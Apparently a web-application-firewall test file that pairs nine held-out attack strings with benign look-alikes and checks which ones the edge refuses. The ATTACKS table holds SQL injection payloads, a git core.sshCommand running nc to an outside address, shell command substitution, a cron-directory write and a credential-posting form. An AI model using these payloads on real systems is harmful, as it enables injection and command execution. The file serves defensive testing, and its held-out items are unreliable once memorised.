"""WAF, part 2z13: held-out probes, thirty-sixth file (README: the
forty-fourth round), written for this file on 2026-12-06. No string is
taken from a corpus or a public list: each class is written here in
shapes of our own, through the real edge (shipped config, bans off).

The classes the homebrew, boardgames and ttrpg corpora (and the misses
the forty-third round's rows list) showed when first replayed (at
0bca0bb):
- group-probe: GROUP BY a list of column numbers then a comment
  (refused); a sentence about grouping by a column (passes);
- git-config-ssh: git's -c setting core.sshCommand (refused); a note
  naming the key (passes);
- sort-compress: sort's --compress-program given a shell (refused); the
  option given gzip in a sentence (passes);
- argument-word: options, a pattern word, then /etc (refused); an
  option before a sentence that ends in /etc (passes);
- separator-span: a backtick span that a separator puts in a command's
  place at the value's end (refused); one a sentence goes on after
  (passes);
- output-cron: gpsbabel's -F writing into a cron directory (refused); -F
  given a separator (passes);
- form-controls: a form posting elsewhere with an input (refused); a
  data format's FORM element (passes);
- dice-sleep: SQL's sleep after a breakout (refused); a spell's dice in
  parentheses (passes);
- code-block: a statement after a breakout (refused); the same kind of
  statement in a wiki's code block (passes).
Measured on 0bca0bb: 6 of those 9 attacks passed (the rest were refused
by other rules), 3 of the 9 look-alikes were refused.

Each attack is sent as a query value (URL-encoded once, and once more:
the edge decodes repeatedly) and as a JSON body field; each look-alike
must pass in the same placements. A probe the edge gets wrong is listed
in KNOWN_MISSES or KNOWN_FALSE_POSITIVES with the reason, and runs as a
strict xfail."""

from wafkit import heldout_probe_tests, session, waf_config  # noqa: F401

CONF = waf_config()

ATTACKS = {
    "group-probe": ["7 GROUP BY 1,2,3--"],
    "git-config-ssh": ["-c core.sshCommand=\"nc 198.51.100.2 9\" fetch"],
    "sort-compress": ["-t, -k2 --compress-program=bash"],
    "argument-word": ["-rl secret /etc"],
    "separator-span": ["batch 4 ok; `whoami`"],
    "output-cron": ["-i gpx -f in.gpx -o csv -F /etc/cron.hourly/job"],
    "form-controls": ["<form action=\"//x.example/p\"><input name=\"pin\"></form>"],
    "dice-sleep": ["x' or sleep(6)#"],
    "code-block": ["x'; CREATE TABLE t2 (a INT);--"],
}

BENIGN = {
    "group-probe": ["Group by column 2, then sort by date"],
    "git-config-ssh": ["core.sshCommand is read from .git/config"],
    "sort-compress": ["sort's --compress-program=gzip saves disk on big files"],
    "argument-word": ["-v prints more, configs live in /etc"],
    "separator-span": ["Batch 4 ok; `make check` passes too"],
    "output-cron": ["-F , splits on commas"],
    "form-controls": ["<HOP><NAME>Hallertau</NAME><FORM>Leaf</FORM></HOP>"],
    "dice-sleep": ["\u039f \u03bc\u03ac\u03b3\u03bf\u03c2 \u03c1\u03af\u03c7\u03bd\u03b5\u03b9 Sleep (4d8) \u03be\u03b1\u03bd\u03ac"],
    "code-block": ["<syntaxhighlight lang=\"sql\">\nCREATE TABLE t2 (a INT);\n</syntaxhighlight>"],
}

KNOWN_MISSES = {}
KNOWN_FALSE_POSITIVES = {}

(edge, test_tables_are_balanced, test_heldout_r36_attack_refused_everywhere,
 test_heldout_r36_benign_passes) = heldout_probe_tests(
    "r36", CONF, ATTACKS, BENIGN, KNOWN_MISSES, KNOWN_FALSE_POSITIVES)
